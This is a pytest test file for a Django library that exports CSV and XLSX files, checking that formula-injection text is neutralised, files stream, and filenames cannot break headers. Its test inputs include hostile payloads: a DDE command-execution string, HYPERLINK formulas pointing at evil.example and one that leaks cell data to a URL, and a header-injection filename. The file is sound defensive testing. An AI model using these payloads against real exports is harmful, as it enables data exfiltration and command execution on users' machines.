"""The shared export layer: no formula runs when a download is opened, and files stream."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from openpyxl import load_workbook

from kit.spreadsheets import Sheet, csv_response, safe_cell, xlsx_response


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example","click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_text_that_would_run_as_a_formula_is_shown_as_text(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("Plain words", "Plain words"),
        ("a=b", "a=b"),
        (-3, -3),
        (2.5, 2.5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, True),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
    ],
)
def test_numbers_dates_and_harmless_text_pass_unchanged(value, expected):
    assert safe_cell(value) == expected


def test_csv_streams_rows_lazily_and_neutralises_every_cell():
    consumed = []

    def rows():
        for n in range(3):
            consumed.append(n)
            yield [f"=cmd{n}", n, None]

    response = csv_response("answers", ["=Header", "n", "empty"], rows())
    assert isinstance(response, StreamingHttpResponse)
    assert consumed == []  # nothing is read before the response is sent
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="answers.csv"'
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert consumed == [0, 1, 2]
    assert list(csv.reader(io.StringIO(body))) == [
        ["'=Header", "n", "empty"],
        ["'=cmd0", "0", ""],
        ["'=cmd1", "1", ""],
        ["'=cmd2", "2", ""],
    ]


def test_csv_filename_cannot_break_out_of_the_header():
    response = csv_response('a"; filename=evil.exe\r\n', ["x"], [])
    assert response["Content-Disposition"] == 'attachment; filename="a_filenameevil.exe.csv"'


def _workbook(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_xlsx_has_one_sheet_each_with_safe_cells_and_real_numbers():
    response = xlsx_response(
        "results",
        [
            Sheet("Answers", ["Question", "Score", "Comment"], [["Q1", 75, "@admin please"]]),
            ("Dimensions: [all]", ["Dimension", "Score"], iter([["Fit", -1]])),
        ],
    )
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == 'attachment; filename="results.xlsx"'
    workbook = _workbook(response)
    assert workbook.sheetnames == ["Answers", "Dimensions   all"]
    answers = [[c.value for c in row] for row in workbook["Answers"].iter_rows()]
    assert answers == [["Question", "Score", "Comment"], ["Q1", 75, "'@admin please"]]
    assert workbook["Dimensions   all"]["B2"].value == -1
    assert workbook["Answers"]["B2"].data_type == "n"
    # No cell anywhere is a formula.
    for sheet in workbook.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_survives_control_characters_long_text_and_clashing_sheet_names():
    long_title = "A sheet title much longer than Excel allows"
    response = xlsx_response(
        "odd",
        [
            Sheet(long_title, ["Text"], [["bell\x07 and nul\x00 here"], ["x" * 40000]]),
            Sheet(long_title, ["Text"], []),
        ],
    )
    workbook = _workbook(response)
    first, second = workbook.sheetnames
    assert len(first) <= 31
    assert len(second) <= 31
    assert first != second
    sheet = workbook[first]
    assert sheet["A2"].value == "bell and nul here"
    assert len(sheet["A3"].value) == 32767


def test_xlsx_dates_are_dates_in_our_time_zone(settings):
    settings.TIME_ZONE = "Europe/London"
    aware = datetime.datetime(2026, 7, 1, 12, 0, tzinfo=datetime.UTC)
    response = xlsx_response("dates", [Sheet("Dates", ["When"], [[aware]])])
    cell = _workbook(response)["Dates"]["A2"]
    assert cell.value == datetime.datetime(2026, 7, 1, 13, 0)  # BST


LEADS = ["\x01", "\x00\x1f", " \x07 ", "\x7f"]
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("lead", LEADS)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_control_characters_before_a_formula_do_not_let_it_run(lead, trigger):
    """`\\x01=HYPERLINK(…)`: the .xlsx drops the control character, so the guard must look
    past it, in the CSV and in the .xlsx alike."""
    hostile = f'{lead}{trigger}HYPERLINK("http://127.0.0.1:8999/leak?"&A2,"Open")'
    assert safe_cell(hostile).startswith("'")
    workbook = _workbook(xlsx_response("x", [Sheet("S", ["Comment"], [[hostile]])]))
    cell = workbook["S"]["A2"]
    assert cell.data_type != "f"
    assert cell.value.startswith("'")
    assert "HYPERLINK" in cell.value
